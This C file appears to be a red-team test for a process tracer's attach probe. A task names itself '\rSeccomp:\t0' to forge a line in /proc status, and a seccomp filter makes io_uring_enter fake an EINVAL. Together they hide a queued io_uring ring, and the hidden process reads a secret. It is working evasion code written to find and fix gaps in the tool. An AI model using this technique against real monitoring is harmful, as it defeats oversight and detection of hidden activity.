/* attach_forged.c: red team 12 -- a task's name that forges the lines of its /proc status.
 *
 * /proc/PID/status begins with the task's name, which the task sets (prctl(PR_SET_NAME), up
 * to 15 bytes); the kernel escapes a newline and a backslash in it, not a carriage return --
 * and Python's bytes.splitlines() ends a line there.  A name "\rSeccomp:\t0" made
 * procfs.status_numbers, which takes the first line of a key, read "Seccomp: 0" for a task
 * under a filter: the attach probe (Tracer._uring_context_refusal) then asked its io_uring
 * question without suspending the task's filter, and the filter answered it -- EINVAL, "no
 * io_uring context" -- for a process that keeps one as a registered ring descriptor with work
 * queued (gap #27, kio_uring_pending.c registered): attached, it read the secret.  (The same
 * first line decides TracerPid, Tgid and NSpid.)
 *
 *   attach_forged TARGET forged    the ring, the filter, the forged name; then as
 *                                  kio_uring_pending's "registered" ($ESC_WAIT_TRACER)
 *   attach_forged TARGET plain     the same with its own name: the parity case */
#define main kio_uring_pending_main
#include "kio_uring_pending.c"
#undef main

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>

#ifndef AUDIT_ARCH_X86_64
#define AUDIT_ARCH_X86_64 0xc000003e
#endif

/* io_uring_enter fails with EINVAL -- what a task without an io_uring context gets -- and
 * every other call runs. */
static int answer_for_the_probe(void) {
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_io_uring_enter, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EINVAL),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {.len = sizeof code / sizeof code[0], .filter = code};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
        return -errno;
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0 ? -errno : 0;
}

int main(int argc, char **argv) {
    if (argc != 3 || (strcmp(argv[2], "forged") && strcmp(argv[2], "plain")))
        usage("attach_forged TARGET forged|plain");
    target = argv[1];
    int rc = arm(&held, target);
    if (rc < 0)
        skipped("io_uring: %s", ename(-rc));
    struct io_uring_rsrc_update slot = {.offset = -1U, .data = (unsigned long)held.ring};
    if (syscall(SYS_io_uring_register, held.ring, IORING_REGISTER_RING_FDS, &slot, 1) != 1)
        skipped("IORING_REGISTER_RING_FDS: %s", ename(errno));
    rc = answer_for_the_probe();
    if (rc < 0)
        skipped("seccomp: %s", ename(-rc));
    if (!strcmp(argv[2], "forged") && prctl(PR_SET_NAME, "\rSeccomp:\t0", 0, 0, 0) < 0)
        skipped("PR_SET_NAME: %s", ename(errno));
    fire_hidden(&held);
}
